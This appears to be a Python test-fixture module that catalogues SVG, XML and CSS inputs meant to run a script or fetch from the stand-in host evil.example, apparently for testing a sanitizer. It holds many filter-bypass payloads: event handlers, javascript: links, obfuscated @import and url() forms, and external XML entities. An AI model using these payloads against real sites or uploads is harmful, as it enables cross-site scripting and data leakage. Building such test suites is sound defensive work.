"""Drawings that try to run a script or to ask another host: one for each technique that is known.

Each would say ``RAN`` or ask the host ``evil.example`` where it works. What is in ``INSIDE`` stands in an
``<svg>``, what is in ``WHOLE`` is a document of its own.
"""

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"

RUN = "console.log('RAN')"
AWAY = "http://evil.example/x"
RECT = '<rect width="40" height="20" fill="red"/>'
_SCRIPT = f"data:image/svg+xml,&lt;svg xmlns='{SVG}' onload=&quot;{RUN}&quot;/&gt;"


def svg(inside: str, attributes: str = "") -> str:
    """Return a drawing with something in it, and a red rectangle."""
    return (
        f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" width="40" height="20" {attributes}>{inside}{RECT}</svg>'
    )


def _style(css: str) -> str:
    return f"<style>{css}</style>"


_SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in CDATA": f"<script><![CDATA[{RUN}]]></script>",
    "script with a type": f'<script type="text/ecmascript">{RUN}</script>',
    "script as a module": f'<script type="module">{RUN}</script>',
    "script from elsewhere": f'<script href="{AWAY}.js"/>',
    "script from elsewhere, as in SVG 1.1": f'<script xlink:href="{AWAY}.js"/>',
    "script from data": f'<script href="data:text/javascript,{RUN}"/>',
    "script of HTML": f'<script xmlns="{XHTML}">{RUN}</script>',
    "script of HTML by a prefix": f'<h:script xmlns:h="{XHTML}">{RUN}</h:script>',
    "script of SVG by a prefix": f'<s:script xmlns:s="{SVG}">{RUN}</s:script>',
    "script in metadata": f"<metadata><script>{RUN}</script></metadata>",
    "script in a title": f'<title><script xmlns="{XHTML}">{RUN}</script></title>',
    "script in a description": f"<desc><script>{RUN}</script></desc>",
    "script in a style": f"<style><script>{RUN}</script></style>",
    "script in a text": f"<text>a<script>{RUN}</script>b</text>",
    "script in a symbol": f'<symbol id="s"><script>{RUN}</script></symbol><use href="#s"/>',
    "handler of SVG Tiny": (
        f'<handler xmlns:e="http://www.w3.org/2001/xml-events" e:event="load">{RUN}</handler>'
    ),
    "listener": f'<listener event="load" handler="#h"/><handler id="h">{RUN}</handler>',
}
_EVENTS = {
    f"{name} of {element}": f'<{element} {name}="{RUN}"/>'
    for element, name in (
        ("g", "onload"),
        ("rect", "onclick"),
        ("rect", "onmouseover"),
        ("rect", "ONLOAD"),
        ("rect", "onfocusin"),
        ("use", "onerror"),
        ("style", "onload"),
        ("text", "onbegin"),
        ("svg", "onload"),
        ("rect", "onpointerrawupdate"),
        ("rect", "onanimationstart"),
        ("rect", "oncontentvisibilityautostatechange"),
    )
} | {
    "focus at once": f'<rect tabindex="1" autofocus="" onfocus="{RUN}"/>',
    "animation begins": f'<animate onbegin="{RUN}" attributeName="x" dur="1s"/>',
    "set begins": f'<set onbegin="{RUN}" attributeName="x" to="1"/>',
    "motion ends": f'<animateMotion onend="{RUN}" dur="1s"/>',
    "picture that is missing": f'<image href="#none" onerror="{RUN}"/>',
    "event of another namespace": f'<g xmlns:e="{XHTML}" e:onload="{RUN}"/>',
    "event as a reference": '<g onload="&#99;onsole.log(&#39;RAN&#39;)"/>',
}
_LINKS = {
    "link that runs": f'<a href="javascript:{RUN}">{RECT}</a>',
    "link that runs, as in SVG 1.1": f'<a xlink:href="javascript:{RUN}">{RECT}</a>',
    "link that runs, broken by a tab": f'<a href="java&#9;script:{RUN}">{RECT}</a>',
    "link that runs, after white space": f'<a href=" &#10;javascript:{RUN}">{RECT}</a>',
    "link of HTML": f'<a xmlns="{XHTML}" href="javascript:{RUN}">a</a>',
    "link that is animated": f'<a><animate attributeName="href" values="javascript:{RUN}"/>{RECT}</a>',
    "link that is set": f'<a><set attributeName="xlink:href" to="javascript:{RUN}"/>{RECT}</a>',
    "use from elsewhere": f'<use href="{AWAY}.svg#a"/>',
    "use from elsewhere, as in SVG 1.1": f'<use xlink:href="{AWAY}.svg#a"/>',
    "use from elsewhere by any prefix": f'<use xmlns:q="{XLINK}" q:href="{AWAY}.svg#a"/>',
    "use from another host of the same scheme": '<use href="//evil.example/x.svg#a"/>',
    "use with backslashes": '<use href="\\\\evil.example\\x.svg#a"/>',
    "use from another file": '<use href="other-evil.svg#a"/>',
    "use after a wide space": '<use href="&#x3000;#evil"/>',
    "use after a no-break space": '<use href="&#xa0;#evil"/>',
    "use of data": f'<use href="{_SCRIPT}#a"/>',
    "use that is animated": f'<use href="#a"><animate attributeName="href" to="{AWAY}.svg#a"/></use>',
    "use whose base is set": f'<use xml:base="{AWAY}/" href="#a"/>',
    "base of everything": f'<g xml:base="{AWAY}/"><use href="#a"/></g>',
    "image": f'<image href="{AWAY}.png" width="9" height="9"/>',
    "image of data with a script": f'<image href="{_SCRIPT}" width="9" height="9"/>',
    "image of HTML": f'<img xmlns="{XHTML}" src="{AWAY}.png" onerror="{RUN}"/>',
    "image in a filter": f'<filter id="f"><feImage href="{AWAY}.png"/></filter><rect filter="url(#f)"/>',
    "image in a pattern": f'<pattern id="p"><image xlink:href="{AWAY}.png"/></pattern><rect fill="url(#p)"/>',
    "gradient from elsewhere": f'<linearGradient href="{AWAY}.svg#g"/>',
    "pattern from elsewhere": f'<pattern xlink:href="{AWAY}.svg#p"/>',
    "filter from elsewhere": f'<filter xlink:href="{AWAY}.svg#f"/>',
    "text along a path from elsewhere": f'<text><textPath href="{AWAY}.svg#p">a</textPath></text>',
    "motion along a path from elsewhere": f'<animateMotion><mpath href="{AWAY}.svg#p"/></animateMotion>',
    "tref": f'<text><tref xlink:href="{AWAY}.svg#t"/></text>',
    "cursor": f'<cursor xlink:href="{AWAY}.cur"/>',
    "colour profile": f'<color-profile name="p" xlink:href="{AWAY}.icc"/>',
    "font face": (
        f'<font-face><font-face-src><font-face-uri xlink:href="{AWAY}"/></font-face-src></font-face>'
    ),
    "discard": '<discard href="#evil"/>',
}
_DOCUMENTS = {
    "foreign object": (
        f'<foreignObject width="9" height="9"><body xmlns="{XHTML}" onload="{RUN}"/></foreignObject>'
    ),
    "frame in a foreign object": (
        f'<foreignObject width="9" height="9"><iframe xmlns="{XHTML}" src="{AWAY}"/></foreignObject>'
    ),
    "form in a foreign object": (
        f'<foreignObject><form xmlns="{XHTML}" action="{AWAY}"><input/></form></foreignObject>'
    ),
    "frame": f'<iframe xmlns="{XHTML}" src="javascript:{RUN}"/>',
    "frame of SVG": f'<iframe src="{AWAY}"/>',
    "object": f'<object xmlns="{XHTML}" data="{AWAY}.svg"/>',
    "embed": f'<embed xmlns="{XHTML}" src="{AWAY}.svg"/>',
    "style sheet by link": f'<link xmlns="{XHTML}" rel="stylesheet" href="{AWAY}.css"/>',
    "preload by link": f'<link xmlns="{XHTML}" rel="preload" as="image" href="{AWAY}.png"/>',
    "base of HTML": f'<base xmlns="{XHTML}" href="{AWAY}/"/>',
    "refresh": f'<meta xmlns="{XHTML}" http-equiv="refresh" content="0;url={AWAY}"/>',
    "video": f'<video xmlns="{XHTML}" src="{AWAY}.mp4" poster="{AWAY}.png" autoplay=""/>',
    "audio of SVG": f'<audio xlink:href="{AWAY}.mp3" begin="0s"/>',
    "include": f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{AWAY}.xml"/>',
    "element of MathML": (
        f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{RUN}"><mi>x</mi></math>'
    ),
    "name in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
}
_ADDRESSES = {
    "plain": f"url({AWAY})",
    "in quotes": f"url('{AWAY}')",
    "in capitals": f"URL({AWAY})",
    "with spaces": f"url(  {AWAY}  )",
    "of the same scheme": "url(//evil.example/x)",
    "with an id": f"url({AWAY}#a)",
    "beside an own one": f"url(#a) url({AWAY})",
    "after an own one as a fallback": f"url(#a), url({AWAY})",
    "escaped": "\\75rl(//evil.example/x)",
    "escaped with a space": "\\75 rl(//evil.example/x)",
    "escaped in six digits": "\\000075rl(//evil.example/x)",
    "with an escaped colon": "url(http\\3a//evil.example/x)",
    "after a comment": f"/**/url({AWAY})",
    "cut by a comment": f"ur/**/l({AWAY})",
    "of data": "url(data:image/svg+xml,evil)",
    "of a script": "url(javascript:evil)",
    "not closed": f"url({AWAY}",
    "in a string that is not closed": f"url('{AWAY}",
    "of another file": "url(evil.svg#a)",
    "src()": f"src('{AWAY}')",
    "image()": f"image('{AWAY}')",
    "image-set()": f"image-set('{AWAY}' 1x)",
    "-webkit-image-set()": f"-webkit-image-set(url({AWAY}) 1x)",
    "cross-fade()": f"cross-fade(url({AWAY}), red)",
    "element()": "element(#evil)",
    "paint()": "paint(evil)",
    "attr()": "attr(data-evil type(&lt;url&gt;))",
    "with parameters": f"url({AWAY} crossorigin(anonymous))",
}
_ATTRIBUTES = {
    f"{attribute} {name}": f'<rect width="9" height="9" {attribute}="{value}"/>'
    for attribute in ("fill", "filter", "style")
    for name, each in _ADDRESSES.items()
    for value in (f"fill:{each};background-image:{each}" if attribute == "style" else each,)
} | {
    f"{attribute} to elsewhere": f'<path d="M0 0h9v9" {attribute}="url({AWAY}#a)"/>'
    for attribute in (
        "stroke",
        "mask",
        "clip-path",
        "marker",
        "marker-start",
        "marker-mid",
        "marker-end",
        "cursor",
    )
}
_SHEETS = {
    f"sheet {name}": _style(f"rect{{background-image:{each};fill:{each};mask:{each};cursor:{each},auto}}")
    for name, each in _ADDRESSES.items()
} | {
    "import": _style(f"@import '{AWAY}.css';"),
    "import of an address": _style(f"@import url({AWAY}.css);"),
    "import in capitals": _style(f"@IMPORT '{AWAY}.css';"),
    "import split by an element": _style(f"@im<metadata>x</metadata>port '{AWAY}.css';"),
    "import split by an element that draws": _style(f"@im<g/>port '{AWAY}.css';"),
    "import split by a comment of XML": _style(f"@im<!-- x -->port '{AWAY}.css';"),
    "import split by CDATA": _style(f"@im<![CDATA[po]]>rt '{AWAY}.css';"),
    "import split by an instruction": _style(f"@im<?x y?>port '{AWAY}.css';"),
    "import split by a comment of CSS": _style(f"@im/**/port '{AWAY}.css';"),
    "import by a reference": _style(f"&#64;import '{AWAY}.css';"),
    "import escaped": _style(f"@\\69mport '{AWAY}.css';"),
    "import into a layer": _style(f"@import '{AWAY}.css' layer(a) supports(display:block);"),
    "import after a byte order mark": _style(f"\ufeff@import '{AWAY}.css';"),
    "import after a comment that quotes": _style(f"/* ' */@import '{AWAY}.css';/* ' */"),
    "import after a string": _style(f"@media a{{}}@import '{AWAY}.css';"),
    "address split by an element": _style(f"rect{{fill:u<g/>rl({AWAY})}}"),
    "address split by CDATA": _style(f"rect{{fill:ur<![CDATA[l({AWAY})]]>}}"),
    "font from elsewhere": _style(f"@font-face{{font-family:a;src:url({AWAY})}}text{{font-family:a}}"),
    "namespace": _style(f"@namespace url({AWAY});"),
    "document rule": _style(f"@document url({AWAY}){{rect{{fill:red}}}}"),
    "counter style": _style(f"@counter-style a{{symbols:url({AWAY})}}"),
    "variable": _style(f"rect{{--a:url({AWAY});background:var(--a)}}"),
    "property with an address": _style(
        f"@property --a{{syntax:'*';inherits:false;initial-value:url({AWAY})}}"
    ),
    "behaviour": _style("rect{behavior:url(#evil)}"),
    "binding": _style("rect{-moz-binding:url(#evil)}"),
    "expression": _style("rect{width:expression(evil)}"),
    "list of pictures": _style(f"rect{{list-style-image:url({AWAY})}}"),
    "content": _style(f"rect::before{{content:url({AWAY})}}"),
    "border": _style(f"svg{{border-image:url({AWAY}) 1;shape-outside:url({AWAY})}}"),
    "frames": _style(f"@keyframes a{{to{{background:url({AWAY})}}}}svg{{animation:a 1s}}"),
    "condition": _style(f"@media all{{svg{{background:url({AWAY})}}}}"),
    "nested": _style(f"svg{{&amp;{{background:url({AWAY})}}}}"),
    "sheet of HTML": f"<style xmlns='{XHTML}'>@import '{AWAY}.css';</style>",
    "sheet by a prefix": f"<s:style xmlns:s='{SVG}'>@import '{AWAY}.css';</s:style>",
    "two sheets": _style("/*") + _style(f"*/@import '{AWAY}.css';"),
    "sheet in a sheet": f"<style><style>@import '{AWAY}.css';</style></style>",
    "animated fill": f'<rect><animate attributeName="fill" to="url({AWAY}#a)"/></rect>',
}

INSIDE: dict[str, str] = {**_SCRIPTS, **_EVENTS, **_LINKS, **_DOCUMENTS, **_ATTRIBUTES, **_SHEETS}

WHOLE: dict[str, str] = {
    "event of the root": svg("", f'onload="{RUN}"'),
    "style of the root": svg("", f'style="background-image:url({AWAY})"'),
    "base of the root": svg('<use href="#a"/>', f'xml:base="{AWAY}/"'),
    "script type of the root": svg("", 'contentScriptType="text/evil"'),
    "root by a prefix": (
        f'<s:svg xmlns:s="{SVG}" width="9" height="9"><s:script>{RUN}</s:script>'
        f'<script xmlns="{XHTML}">{RUN}</script></s:svg>'
    ),
    "style sheet by an instruction": f'<?xml-stylesheet href="{AWAY}.css" type="text/css"?>{svg("")}',
    "transformation by an instruction": f'<?xml-stylesheet href="{AWAY}.xsl" type="text/xsl"?>{svg("")}',
    "document type elsewhere": f'<!DOCTYPE svg PUBLIC "a" "{AWAY}.dtd">{svg("")}',
    "entity": f'<!DOCTYPE svg [<!ENTITY a "{RUN}">]>{svg("<script>&a;</script>")}',
    "entity elsewhere": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{AWAY}">]>{svg("<text>&a;</text>")}',
    "entity of a parameter": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{AWAY}">%a;]>{svg("")}',
    "attribute that all elements get": f'<!DOCTYPE svg [<!ATTLIST rect onload CDATA "{RUN}">]>{svg("")}',
    "another encoding": f'<?xml version="1.0" encoding="utf-7"?>{svg("")}',
    "page of HTML": f'<html xmlns="{XHTML}"><script>{RUN}</script></html>',
    "drawing in a page": f'<html xmlns="{XHTML}"><body onload="{RUN}">{svg("")}</body></html>',
    **{f"whole: {name}": svg(inside) for name, inside in INSIDE.items()},
}
